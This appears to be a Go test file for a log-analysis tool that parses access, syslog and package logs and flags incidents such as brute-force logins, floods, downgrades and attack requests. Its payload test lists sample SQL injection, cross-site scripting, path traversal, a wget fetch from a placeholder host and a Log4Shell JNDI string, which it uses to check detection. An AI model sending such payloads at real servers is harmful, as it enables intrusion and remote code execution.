package logs_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/safeconduct/safeconduct/examples/incident/logs"
)

func TestFormatOfOneLine(t *testing.T) {
	tests := []struct {
		name, line string
		want       logs.Format
		dialect    string
	}{
		{"common", `127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`, logs.FormatAccess, "common"},
		{"combined", `192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 - "http://a/" "Mozilla/4.08"`, logs.FormatAccess, "combined"},
		{"virtual host", `shop.example:443 192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1 "-" "x"`, logs.FormatAccess, "combined"},
		{"ipv6", `2001:db8::1 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/2.0" 304 0 "-" "x"`, logs.FormatAccess, "combined"},
		{"ipv6 in brackets", `[2001:db8::1] - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/2.0" 304 0`, logs.FormatAccess, "common"},
		{"host name", `in24.example.com - - [01/Aug/1995:00:00:01 -0400] "GET /a HTTP/1.0" 200 1839`, logs.FormatAccess, "common"},
		{"quotes in the request", `h.example - - [01/Aug/1995:00:00:01 -0400] "GET /a"b" HTTP/1.0" 404 -`, logs.FormatAccess, "common"},
		{"no protocol", `h.example - - [01/Aug/1995:00:00:01 -0400] "GET /a" 200 1`, logs.FormatAccess, "common"},
		{"garbage request", `192.0.2.1 - - [10/Oct/2000:13:55:36 +0000] "\x16\x03\x01" 400 157 "-" "-"`, logs.FormatAccess, "combined"},
		{"no request", `192.0.2.1 - - [10/Oct/2000:13:55:36 +0000] "-" 408 - "-" "-"`, logs.FormatAccess, "combined"},
		{"more fields", `192.0.2.1 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "a \"b\" c" "203.0.113.9" rt=0.004`, logs.FormatAccess, "combined"},
		{"user with spaces", `192.0.2.1 - ann lee [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 5`, logs.FormatAccess, "common"},
		{"proxies", `192.0.2.1, 203.0.113.1 - - [10/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 5`, logs.FormatAccess, "common"},
		{"no such day", `192.0.2.1 - - [41/Oct/2000:13:55:36 +0000] "GET / HTTP/1.1" 200 5`, logs.FormatGeneric, "text"},
		{"rfc3164", "Nov 22 21:00:01 host sshd[12]: hello", logs.FormatSyslog, "rfc3164"},
		{"rfc3164 priority", "<34>Oct  1 22:14:15 host su: 'su root' failed", logs.FormatSyslog, "rfc3164"},
		{"rfc3164 no tag", "Nov  2 21:00:01 host last message repeated 2 times", logs.FormatSyslog, "rfc3164"},
		{"rfc3164 pam", "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: check pass; user unknown", logs.FormatSyslog, "rfc3164"},
		{"short iso", "2026-11-22T21:00:01+0000 host kernel: usb 1-1: new device", logs.FormatSyslog, "iso"},
		{"precise iso", "2026-11-22T21:00:01.123456+01:00 host systemd[1]: Started x.", logs.FormatSyslog, "iso"},
		{"short full", "Sun 2026-11-22 21:00:01 UTC host systemd[1]: Started x.", logs.FormatSyslog, "journal"},
		{"kernel ring", "[   12.345678] usb 1-1: new device", logs.FormatSyslog, "kernel"},
		{"rfc5424", "<165>1 2026-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - text", logs.FormatSyslog, "rfc5424"},
		{"rfc5424 nil", "<13>1 - - - - - -", logs.FormatSyslog, "rfc5424"},
		{"rfc5424 open data", `<165>1 2026-08-24T05:14:15Z h p 1 - [a b="]" text`, logs.FormatGeneric, "text"},
		{"iso without a tag", "2026-11-22T21:00:01Z INFO server started", logs.FormatGeneric, "text"},
		{"dpkg", "2026-11-01 06:12:13 install pkg:amd64 <none> 1.2", logs.FormatDpkg, "dpkg.log"},
		{"history", "Commandline: apt-get upgrade", logs.FormatDpkg, "history.log"},
		{"term", "Setting up libc6:amd64 (2.36-9) ...", logs.FormatDpkg, "term.log"},
		{"apache error log", "[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok", logs.FormatGeneric, "text"},
		{"prose", "it was a dark and stormy night", logs.FormatGeneric, "text"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if l := parse(t, tt.line); l.Format != tt.want || l.Dialect != tt.dialect {
				t.Errorf("Read(%s) = %s, %s, want %s, %s", tt.line, l.Format, l.Dialect, tt.want, tt.dialect)
			}
		})
	}
}

func repeat(n int, line func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(line(i) + "\n")
	}
	return b.String()
}

// request writes one line of an access log; second counts from midnight.
func request(second int, client, request string, status int) string {
	return fmt.Sprintf(`%s - - [21/Nov/2026:%02d:%02d:%02d +0000] "%s HTTP/1.1" %d 5 "-" "x"`,
		client, second/3600, second/60%60, second%60, request, status)
}

// Each threshold holds on both sides: one line less is silent.
func TestThresholds(t *testing.T) {
	others := repeat(8, func(i int) string { return request(i*600, fmt.Sprintf("192.0.2.%d", i+1), "GET /", 200) })
	tests := []struct {
		name  string
		kind  logs.Kind
		limit int
		text  func(n int) string
	}{
		{"scan", logs.KindPathProbe, logs.ScanNotFoundMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(i*90, "203.0.113.1", fmt.Sprintf("GET /x%d", i), 404) })
		}},
		{"refused logins", logs.KindLoginAttack, logs.LoginFailMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(i*90, "203.0.113.1", "POST /api/login", 401) })
		}},
		{"answered logins", logs.KindLoginAttack, logs.LoginPostMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(i*9, "203.0.113.1", "POST /wp-login.php", 200) })
		}},
		{"5xx burst", logs.KindErrorBurst, logs.BurstMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(40000+i, "192.0.2.1", "GET /", 502) })
		}},
		{"5xx over the day", logs.KindServerErrors, logs.ServerErrorMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(i*900, "192.0.2.1", "GET /", 500) })
		}},
		{"flood", logs.KindFlood, logs.FloodMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(40000+i*50/n, "203.0.113.1", "GET /", 200) })
		}},
		{"missing file", logs.KindNotFoundShare, logs.ClientNotFoundMin, func(n int) string {
			return others + repeat(n, func(i int) string { return request(i*90, "203.0.113.1", "GET /gone", 404) })
		}},
		{"not http", logs.KindGarbage, logs.GarbageMin, func(n int) string {
			return others + repeat(n, func(i int) string {
				return strings.Replace(request(i*90, "203.0.113.1", "X", 400), "X HTTP/1.1", `\x16\x03`, 1)
			})
		}},
		{"ssh", logs.KindBruteForce, logs.BruteForceMin, func(n int) string {
			return repeat(n, func(int) string {
				return "Nov  2 21:00:01 h sshd[1]: Failed password for root from 203.0.113.1 port 5 ssh2"
			})
		}},
		{"pam reports the same attempt", logs.KindBruteForce, logs.BruteForceMin, func(n int) string {
			return repeat(n, func(int) string {
				return "Nov  2 21:00:01 h sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.1  user=root\n" +
					"Nov  2 21:00:01 h sshd[1]: Failed password for root from 203.0.113.1 port 5 ssh2"
			})
		}},
		{"mail", logs.KindBruteForce, logs.BruteForceMin, func(n int) string {
			return repeat(n, func(int) string {
				return "Nov  2 21:00:01 h postfix/smtpd[1]: warning: unknown[203.0.113.1]: SASL LOGIN authentication failed: x"
			})
		}},
		{"restarts", logs.KindRestartLoop, logs.RestartMin, func(n int) string {
			return repeat(n, func(i int) string {
				return fmt.Sprintf("Nov  2 21:00:01 h systemd[1]: a.service: Scheduled restart job, restart counter is at %d.", i+1)
			})
		}},
		{"connections", logs.KindConnections, logs.ConnectionMin, func(n int) string {
			return repeat(n, func(i int) string {
				return fmt.Sprintf("Nov  2 21:00:%02d h ftpd[1]: connection from 203.0.113.1 () at x", i)
			})
		}},
		{"sudo passwords", logs.KindSudo, logs.SudoFailMin, func(n int) string {
			return repeat(n, func(int) string { return "Nov  2 21:00:01 h sudo:  ann : 1 incorrect password attempt ; TTY=x" })
		}},
		{"program errors", logs.KindProgramError, logs.ProgramErrorMin, func(n int) string {
			return repeat(n, func(int) string { return "Nov  2 21:00:01 h app[1]: level=error msg=x" })
		}},
		{"warnings", logs.KindWarnings, logs.WarningMin, func(n int) string {
			return repeat(n, func(i int) string { return fmt.Sprintf("2026-01-01 %02d:00:00 WARN slow", i) })
		}},
		{"template burst", logs.KindBurst, logs.TemplateBurstMin, func(n int) string {
			return repeat(n, func(i int) string { return fmt.Sprintf("2026-01-01 10:00:%02d ERROR shard %d", i, i) })
		}},
		{"one error", logs.KindErrors, 1, func(n int) string {
			return "2026-01-01 10:00:00 INFO x\n" + repeat(n, func(int) string { return "2026-01-01 10:00:01 ERROR y" })
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			has := func(n int) bool {
				return slices.ContainsFunc(parse(t, tt.text(n)).Findings(), func(f logs.Finding) bool { return f.Kind == tt.kind })
			}
			if !has(tt.limit) || has(tt.limit-1) {
				t.Errorf("%s: found at %d = %v, at %d = %v, want true, false", tt.kind, tt.limit, has(tt.limit), tt.limit-1, has(tt.limit-1))
			}
		})
	}
}

func TestDowngradeOrder(t *testing.T) {
	tests := []struct {
		old, version string
		down         bool
	}{
		{"1.0", "1.1", false},
		{"1.1", "1.0", true},
		{"1.9", "1.10", false},
		{"1.0~rc1", "1.0", false},
		{"1.0", "1.0~rc1", true},
		{"1:0.9", "2.0", true},
		{"2.0", "1:0.9", false},
		{"1.0-1", "1.0-1+b1", false},
		{"1.0-2", "1.0-10", false},
		{"1.0", "1.0-0", false},
		{"1.0a", "1.0+", false},
		{"1.0+", "1.0a", true},
		{"007", "7", false},
		{"20.20.2-1nodesource1", "20.20.2-1nodesource1+repack1", false},
		{"1.2.3-4~bpo1", "1.2.3-4", false},
	}
	for _, tt := range tests {
		t.Run(tt.old+" to "+tt.version, func(t *testing.T) {
			fs := parse(t, "2026-11-01 06:12:13 upgrade p:amd64 "+tt.old+" "+tt.version).Findings()
			if got := len(fs) == 1 && fs[0].Kind == logs.KindDowngrade; got != tt.down {
				t.Errorf("findings = %v, want a downgrade: %v", fs, tt.down)
			}
		})
	}
}

// Requests that resemble attacks and are none.
func TestHarmlessRequests(t *testing.T) {
	for _, target := range []string{
		"/search?q=select+a+shirt+from+the+union", "/api.js?onload=start&render=explicit", "/a?x=1&id&cat=2", "/q?text=wait.../next",
		"/blog/../blog/post", "/rock-n-roll's-best", "/login", "/docs/drop-table-syntax", "/?order=asc;desc", "/image(1).png", "/.well-known/acme-challenge/x",
		"/c%2B%2B-system(tm)", "/environment", "/gitlab/x", "/run/kubectl",
	} {
		t.Run(target, func(t *testing.T) {
			if fs := parse(t, request(1, "192.0.2.1", "GET "+target, 200)).Findings(); len(fs) != 0 {
				t.Errorf("findings = %+v, want none", fs)
			}
		})
	}
}

func TestPayloads(t *testing.T) {
	tests := []struct {
		target string
		want   logs.Kind
	}{
		{"/a?id=1+UNION+ALL+SELECT+1,2", logs.KindSQLInjection},
		{"/a?id=1%2527%2520OR%25201%253D1", logs.KindSQLInjection},
		{"/a?id=1;DROP+TABLE+users", logs.KindSQLInjection},
		{"/a?q=%22%3E%3Cscript%3Ealert(1)", logs.KindScript},
		{"/a?q=%3Cimg%20src=x%20onerror=x", logs.KindScript},
		{"/../../../etc/passwd", logs.KindTraversal},
		{"/%2e%2e/%2e%2e/x", logs.KindTraversal},
		{"/a?file=../../conf", logs.KindTraversal},
		{"/cgi/x?;wget+http://203.0.113.1/a", logs.KindCommand},
		{"/?x=${jndi:ldap://203.0.113.1/a}", logs.KindCommand},
		{"/a?cmd=|cat+/tmp/x", logs.KindCommand},
	}
	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			fs := parse(t, request(1, "192.0.2.1", "GET "+tt.target, 404)).Findings()
			if len(fs) != 1 || fs[0].Kind != tt.want || fs[0].Severity != logs.Medium {
				t.Errorf("findings = %+v, want one %s", fs, tt.want)
			}
		})
	}
}

// Many attackers do not hide other findings, nor fill the report.
func TestManyFindingsAreMerged(t *testing.T) {
	var b strings.Builder
	for c := range 40 {
		for range logs.BruteForceMin + c%3 {
			fmt.Fprintf(&b, "Nov  2 21:00:01 h sshd[1]: Failed password for root from 203.0.113.%d port 5 ssh2\n", c)
		}
	}
	b.WriteString("Nov  2 21:00:02 h kernel: Out of memory: Killed process 5 (db) total-vm:1kB\n")
	l := parse(t, b.String())
	fs := l.Findings()
	if len(fs) != logs.MaxPerKind+2 || fs[0].Kind != logs.KindOutOfMemory {
		t.Fatalf("%d findings, first %s, want %d", len(fs), fs[0].Kind, logs.MaxPerKind+2)
	}
	if last := fs[len(fs)-1]; last.Subject != "20 more subjects" || last.Total < 20*logs.BruteForceMin {
		t.Errorf("last finding = %+v, want 20 merged", last)
	}
	p := logs.Propose(l, fs)
	if len(p.Rules) != logs.MaxRules || !strings.Contains(p.Note, "at most 20 rules") {
		t.Errorf("%d rules, note %q", len(p.Rules), p.Note)
	}
}
